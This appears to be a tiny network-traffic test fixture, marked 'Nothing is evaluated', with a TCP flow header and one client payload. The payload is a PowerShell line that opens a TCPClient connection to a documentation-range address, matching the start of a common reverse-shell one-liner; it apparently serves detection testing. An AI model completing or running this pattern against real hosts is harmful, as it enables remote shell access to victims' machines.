# Nothing is evaluated.
proto tcp
client 10.0.0.1:40000
server 10.0.0.2:6000

>>>
$c=New-Object System.Net.Sockets.TCPClient('198.51.100.7',80);$s=$c.GetStream();$s.Close()\n
